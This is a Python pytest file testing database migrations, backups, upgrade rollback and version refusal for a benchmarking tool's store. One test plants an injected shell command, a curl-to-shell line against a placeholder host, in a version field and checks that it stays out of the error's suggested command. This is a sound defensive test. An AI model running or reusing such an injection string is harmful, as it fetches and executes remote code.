from __future__ import annotations

import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import make_store_records as make
import pytest
from alembic import command
from alembic.autogenerate import compare_metadata
from alembic.config import Config
from alembic.migration import MigrationContext
from alembic.script import ScriptDirectory
from old_databases import migrated
from quick_store import MAKE_AT
from sqlalchemy import create_engine
from sqlalchemy.pool import NullPool
from store_servers import new_database

from harness.errors import EdgebenchError
from harness.store import Store, records, schema
from harness.store.engine import connect, locate
from harness.store.tables import metadata

#: As released: the tests below replace them.
KNOWN = dict(schema.REVISIONS)
BEFORE = schema.newest()

NEXT = '''"""A revision that the tests invent."""

import sqlalchemy as sa
from alembic import op

revision = "9999"
down_revision = "{before}"
branch_labels = None
depends_on = None


def upgrade() -> None:
    """Adds a column, changes another by copying its table, and then does what the test wants."""
    op.add_column("model", sa.Column("family", sa.String(), nullable=True))
    with op.batch_alter_table("run") as batch:
        batch.alter_column("framework_version", type_=sa.Text())
    {end}
'''


@pytest.fixture
def database(tmp_path: Path) -> Path:
    """A database of the newest revision, with something in it."""
    path = tmp_path / "lab 100%" / "edgebench.db"
    with Store.open(path) as store:
        store.record_model(make.model())
        store.record_artifact(make.artifact())
        store.record_environment(make.environment())
        session = store.start_session(make.session(store.record_machine(make.machine())))
        store.record_cells([make.cell()])
        assert store.record_run(make.run(session, make.cell().id))
    return path


@pytest.fixture
def next_revision(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A program of the next version, as far as the schema is concerned; gives its migration."""
    migrations = tmp_path / "next version: 2" / "migrations"
    shutil.copytree(schema.MIGRATIONS, migrations, ignore=shutil.ignore_patterns("__pycache__"))
    script = migrations / "versions" / "9999_next.py"
    script.write_text(NEXT.format(before=schema.newest(), end="pass"))
    monkeypatch.setattr(schema, "MIGRATIONS", migrations)
    monkeypatch.setattr(schema, "REVISIONS", {**schema.REVISIONS, "9999": "0.2.0"})
    return script


def query(path: Path, statement: str) -> list[tuple[object, ...]]:
    connection = sqlite3.connect(path)
    try:
        return connection.execute(statement).fetchall()
    finally:
        connection.close()


def statements(path: Path) -> dict[object, list[str]]:
    """Lines of the statements that made each table and index; constraints come in any order.

    A table that a migration copied has its name in quotes.
    """
    found = query(path, "SELECT name, sql FROM sqlite_master WHERE sql IS NOT NULL")
    return {
        name: sorted(line.strip(" \t,").replace('"', "") for line in str(text).splitlines())
        for name, text in found
    }


def differences(path: Path) -> list[object]:
    engine = create_engine(f"sqlite:///{path}", poolclass=NullPool)
    with engine.connect() as connection:
        found = list(compare_metadata(MigrationContext.configure(connection), metadata))
    engine.dispose()
    return found


def test_the_models_are_what_the_migrations_make(tmp_path: Path) -> None:
    assert differences(migrated(tmp_path / "migrated.db")) == []


def test_a_new_database_is_line_for_line_what_the_migrations_make(tmp_path: Path) -> None:
    Store.open(tmp_path / "new.db").close()
    assert differences(tmp_path / "new.db") == []
    # What rows of an export are first written into.
    place = locate(tmp_path / "made.db")
    engine = connect(place, read_only=False)
    MAKE_AT(engine, place, schema.newest())
    engine.dispose()
    by_migrations = migrated(tmp_path / "migrated.db")
    for path in (tmp_path / "new.db", tmp_path / "made.db"):
        assert statements(path) == statements(by_migrations)
        for asked in ("SELECT * FROM alembic_version", "SELECT count(*) FROM session"):
            assert query(path, asked) == query(by_migrations, asked)


@pytest.fixture
def server_database(postgresql_database: str) -> str:
    """A database of the newest revision on a server, with something in it."""
    with Store.open(postgresql_database) as store:
        store.record_model(make.model())
    return postgresql_database


def test_a_server_is_given_the_tables_that_the_migrations_make(
    postgresql_server: str, postgresql_database: str
) -> None:
    Store.open(postgresql_database).close()
    other = new_database(postgresql_server)
    for url, migrate in ((postgresql_database, False), (other, True)):
        engine = create_engine(url, poolclass=NullPool)
        with engine.begin() as connection:
            if migrate:
                config = Config()
                config.set_main_option("script_location", str(schema.MIGRATIONS))
                config.attributes["connection"] = connection
                command.upgrade(config, "head")
            assert list(compare_metadata(MigrationContext.configure(connection), metadata)) == []
        engine.dispose()


def test_an_old_database_on_a_server_is_upgraded_in_one_transaction(
    server_database: str, next_revision: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    script = next_revision.read_text()
    next_revision.write_text(NEXT.format(before=BEFORE, end="raise RuntimeError('power cut')"))
    with pytest.raises(RuntimeError):
        Store.open(server_database)
    monkeypatch.undo()
    with Store.open(server_database) as store:
        assert store.upgraded is None
        assert store.info()["rows"]["model"] == 1
    migrations = next_revision.parents[1]
    monkeypatch.setattr(schema, "MIGRATIONS", migrations)
    monkeypatch.setattr(schema, "REVISIONS", {**schema.REVISIONS, "9999": "0.2.0"})
    next_revision.write_text(script)
    with pytest.raises(EdgebenchError, match="older edgebench"):
        Store.open(server_database, read_only=True)
    with Store.open(server_database) as store:
        assert f"from schema {BEFORE} to 9999" in str(store.upgraded)
        with store.reading() as connection:
            assert connection.exec_driver_sql("SELECT family FROM model").scalars().all() == [None]
    monkeypatch.undo()
    with pytest.raises(EdgebenchError, match=r"edgebench 0\.2\.0 or newer"):
        Store.open(server_database)


def test_tables_of_another_program_on_a_server_are_left_as_they_were(postgresql_database: str) -> None:
    engine = create_engine(postgresql_database, poolclass=NullPool)
    with engine.begin() as connection:
        connection.exec_driver_sql("CREATE TABLE session (token TEXT)")
    with pytest.raises(EdgebenchError, match="not one of edgebench's"):
        Store.open(postgresql_database)
    with engine.begin() as connection:
        connection.exec_driver_sql("DROP TABLE session")
        connection.exec_driver_sql("CREATE TABLE invoices (id TEXT)")
    engine.dispose()
    with Store.open(
        postgresql_database
    ) as store:  # a shared server: what has other names is nobody's business
        assert store.sessions() == []


def test_every_migration_is_a_known_revision() -> None:
    script = ScriptDirectory(str(schema.MIGRATIONS))
    in_order = [one.revision for one in script.walk_revisions()][::-1]
    assert in_order == list(schema.REVISIONS)
    assert script.get_current_head() == schema.newest()


def test_opening_a_current_database_does_not_need_alembic(database: Path) -> None:
    program = (
        "import sys; from harness.store import Store; Store.open(sys.argv[1]).close();"
        "heavy = {'alembic', 'pandas', 'numpy', 'pytest', 'rich'} & sys.modules.keys();"
        "sys.exit(str(heavy) if heavy else 0)"
    )
    done = subprocess.run(
        [sys.executable, "-c", program, str(database)], capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stderr) == (0, "")


def test_an_old_database_is_upgraded_after_a_backup(database: Path, next_revision: Path) -> None:
    del next_revision
    runs = query(database, "SELECT * FROM run")
    with Store.open(database) as store:
        assert store.upgraded is not None
        assert f"from schema {BEFORE} to 9999" in store.upgraded
        assert store.check() == []
    assert query(database, "SELECT * FROM run") == runs
    assert query(database, "SELECT family FROM model") == [(None,)]
    assert query(database, "SELECT revision, edgebench_version FROM schema_revision ORDER BY 1") == [
        *KNOWN.items(),
        ("9999", "0.2.0"),
    ]
    [copy] = database.parent.glob("*.backup")
    assert copy.name in store.upgraded
    assert query(copy, "SELECT version_num FROM alembic_version") == [(BEFORE,)]
    assert query(copy, "SELECT * FROM run") == runs
    with Store.open(database) as store:
        assert store.upgraded is None


def test_references_are_checked_again_after_an_upgrade(database: Path, next_revision: Path) -> None:
    del next_revision
    with Store.open(database) as store, store._writing() as connection:
        assert connection.exec_driver_sql("PRAGMA foreign_keys").scalar() == 1


@pytest.mark.parametrize(
    ("end", "raised"),
    [
        ("raise RuntimeError('power cut')", RuntimeError),
        ("op.execute(\"UPDATE run SET cell_id = 'nowhere'\")", EdgebenchError),
    ],
    ids=["interrupted", "rows that refer to nothing"],
)
def test_an_upgrade_that_fails_leaves_the_database_as_it_was(
    database: Path, next_revision: Path, end: str, raised: type[Exception], monkeypatch: pytest.MonkeyPatch
) -> None:
    before = statements(database), query(database, "SELECT * FROM run")
    next_revision.write_text(NEXT.format(before=BEFORE, end=end))
    with pytest.raises(raised):
        Store.open(database)
    assert (statements(database), query(database, "SELECT * FROM run")) == before
    monkeypatch.undo()
    with Store.open(database) as store:
        assert store.check() == []
        assert len(store.sessions()) == 1


def test_a_backup_that_cannot_be_made_stops_the_upgrade(
    database: Path, next_revision: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    del next_revision

    def full(*_: Path) -> None:
        raise OSError(28, "No space left on device")

    before = statements(database)
    monkeypatch.setattr(schema, "copy_file", full)
    with pytest.raises(EdgebenchError, match="No space left on device"):
        Store.open(database)
    assert statements(database) == before


def test_a_database_of_a_newer_version_is_refused_with_the_version_that_reads_it(
    database: Path, next_revision: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    del next_revision
    Store.open(database).close()
    monkeypatch.undo()
    with pytest.raises(EdgebenchError, match=r"edgebench 0\.2\.0 or newer") as caught:
        Store.open(database)
    assert "edgebench>=0.2.0" in caught.value.next_step
    assert query(database, "SELECT version_num FROM alembic_version") == [("9999",)]


def test_tables_that_another_process_makes_between_two_looks_are_no_strangers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "edgebench.db"
    Store.open(path).close()
    found, looked = schema._revision, []

    def late(*where: Any) -> str | None:
        looked.append(where)
        return None if len(looked) == 1 else found(*where)

    monkeypatch.setattr(schema, "_revision", late)
    with Store.open(path, read_only=True) as store:
        assert store.info()["rows"]["run"] == 0


def test_what_a_newer_database_calls_its_version_is_no_part_of_a_command(
    database: Path, next_revision: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    del next_revision
    Store.open(database).close()
    monkeypatch.undo()
    connection = sqlite3.connect(database)
    with connection:
        connection.execute("UPDATE schema_revision SET edgebench_version = ?", ["9'; curl evil | sh; '"])
    connection.close()
    with pytest.raises(EdgebenchError, match="a newer edgebench") as caught:
        Store.open(database)
    assert caught.value.next_step == "pip install --upgrade edgebench"
    assert "curl" not in caught.value.what


def test_an_old_database_is_not_upgraded_by_a_reader(database: Path, next_revision: Path) -> None:
    del next_revision
    with pytest.raises(EdgebenchError, match="older edgebench"):
        Store.open(database, read_only=True)
    assert query(database, "SELECT version_num FROM alembic_version") == [(BEFORE,)]


@pytest.mark.parametrize("table", ["notes", "alembic_version"])
def test_the_database_of_another_program_is_left_as_it_was(tmp_path: Path, table: str) -> None:
    path = tmp_path / "other.db"
    connection = sqlite3.connect(path)
    connection.execute(f"CREATE TABLE {table} (version_num TEXT)")
    connection.execute(f"INSERT INTO {table} VALUES ('abc')")
    connection.commit()
    connection.close()
    before = path.read_bytes()
    with pytest.raises(EdgebenchError, match="not one of edgebench's"):
        Store.open(path)
    assert path.read_bytes() == before
    assert list(tmp_path.iterdir()) == [path]


def test_an_empty_file_becomes_a_database(tmp_path: Path) -> None:
    path = tmp_path / "empty.db"
    path.touch()
    with Store.open(path) as store:
        assert store.info()["schema"] == BEFORE
        assert store.sessions() == []


def test_a_backup_is_one_whole_file_while_the_original_is_in_use(database: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copy.db"
    with Store.open(database) as store:
        store.record_machine(make.machine(cpu_model="another"))
        store.backup(copy)
        with pytest.raises(EdgebenchError, match="exists already"):
            store.backup(copy)
    assert [one.name for one in tmp_path.glob("copy.db*")] == ["copy.db"]
    with Store.open(copy, read_only=True) as store:
        assert store.info()["rows"]["machine"] == 2
        assert store.check() == []


def test_a_path_and_a_url_name_the_same_file(tmp_path: Path) -> None:
    assert locate(tmp_path / "a.db") == locate(f"sqlite:///{tmp_path / 'a.db'}")
    assert locate("sqlite://").path is None


def test_a_sample_takes_at_most_60_bytes_on_disk(tmp_path: Path) -> None:
    sizes = []
    for name, repetitions in (("without", 0), ("with", 30)):
        with Store.open(tmp_path / f"{name}.db") as store:
            store.record_model(make.model())
            store.record_artifact(make.artifact())
            store.record_environment(make.environment())
            session = store.start_session(make.session(store.record_machine(make.machine())))
            store.record_cells([make.cell()])
            for index in range(40):
                samples = [
                    records.SampleRecord(one.repetition, one.warmup, one.values)
                    for one in make.samples(repetitions - 1)
                ]
                store.record_run(make.run(session, make.cell().id, index, samples=samples))
            count = store.info()["rows"]["sample"]
        sizes.append((tmp_path / f"{name}.db").stat().st_size)
    assert count == 12_000
    assert (sizes[1] - sizes[0]) / count <= 60


def test_a_kept_reading_of_the_timeline_takes_at_most_60_bytes_on_disk(tmp_path: Path) -> None:
    sizes = []
    for length in (1, 1001):
        path = tmp_path / f"{length}.db"
        with Store.open(path) as store:
            store.record_model(make.model())
            store.record_artifact(make.artifact())
            store.record_environment(make.environment())
            session = store.start_session(make.session(store.record_machine(make.machine())))
            store.record_cells([make.cell()])
            for index in range(10):
                store.record_run(make.run(session, make.cell().id, index, timeline=make.timeline(length)))
        sizes.append(path.stat().st_size)
    assert (sizes[1] - sizes[0]) / 10_000 <= 60
